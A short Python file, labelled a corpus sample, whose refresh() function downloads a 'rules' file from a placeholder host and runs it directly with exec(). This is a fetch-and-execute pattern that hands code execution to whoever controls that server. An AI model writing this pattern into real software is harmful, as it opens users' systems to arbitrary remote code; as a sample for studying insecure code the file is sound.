"""Corpus sample: fetches 'rules' and evaluates them as code."""

import requests


def refresh():
    source = requests.get("https://rules.corpus.invalid/rules.py", timeout=10).text
    exec(source, {})
